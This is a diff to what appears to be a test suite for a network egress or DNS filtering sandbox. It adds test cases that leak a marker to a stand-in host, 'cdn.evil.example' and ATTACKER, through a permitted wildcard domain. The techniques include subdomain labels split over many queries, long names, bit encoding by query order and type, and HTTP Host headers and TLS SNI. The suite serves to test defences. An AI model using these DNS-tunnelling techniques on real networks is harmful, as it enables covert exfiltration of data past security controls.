@@ -71,9 +71,36 @@ ask(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + bytes([len(MARKER)]) + mark +
     + b"\\0\\1\\0\\1" + name("evil.example"), host=ATTACKER)"""),
     dns("upper case", 'ask(query(MARKER.upper() + ".EVIL.EXAMPLE"))'),
     dns("long names", 'ask(query(".".join(["x" * 60] * 3 + [MARKER, "evil", "example"])))'),
-    dig("payload under an allowed wildcard", "$MARKER.cdn.evil.example", policy=WILDCARD,
-        logged=False, silent=False,
-        open="names under an allowed wildcard are not yet counted or limited"),
+    # A name under an allowed wildcard gets through; what does not is a message of any length.
+    dns("payload in names under an allowed wildcard, a piece each", """
+
+for i in range(300):
+    try: ask(query("%s.p%03d.cdn.evil.example" % (MARKER if i == 299 else "x", i)))
+    except OSError: pass""", policy=WILDCARD, silent=False),
+    dns("payload in long names under an allowed wildcard", """
+for i in range(60):
+    try: ask(query("%s.%s.p%d.cdn.evil.example" % (MARKER if i == 59 else "x", ".".join(["y" * 60] * 3), i)))
+    except OSError: pass""", policy=WILDCARD, silent=False),
+    dns("payload in the order of names under an allowed wildcard", f"""
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{RESOLVER}", 53))
+def one(text):
+    s.send(query(text)); return s.recv(500)
+one("bit0.cdn.evil.example"), one("bit1.cdn.evil.example")
+for i in range(40): one("bit%d.cdn.evil.example" % (i % 2))
+# What is repeated is told apart by type: the resolver has not been asked for this one.
+s.send(query("bit1.cdn.evil.example", 16)); s.recv(500)""", policy=WILDCARD, silent=False,
+        options=("--limit", "dns_queries_hourly=40"),
+        forms=lambda marker: [b"\x04bit1\x03cdn\x04evil\x07example\0\0\x10"]),
+    # The name that a client claims is looked up by the worker: only as if the client had asked.
+    Attack("claimed name under an allowed wildcard, no rule for a resolver", f"""
+context = ssl._create_unverified_context()
+for port in (443, 80):
+    try:
+        s = socket.create_connection((ATTACKER, port))
+        if port == 80: s.sendall(f"GET / HTTP/1.1\\r\\nHost: {{MARKER}}.cdn.evil.example\\r\\n\\r\\n".encode())
+        else: context.wrap_socket(s, server_hostname=MARKER + ".cdn.evil.example")
+        drain(s)
+    except OSError: pass""", policy="*.cdn.evil.example:80|443\n"),
     Attack("DNS over TLS", f"""
 context = ssl._create_unverified_context(); m = query(MARKER + ".evil.example")
 s = context.wrap_socket(socket.create_connection((ATTACKER, 853)))
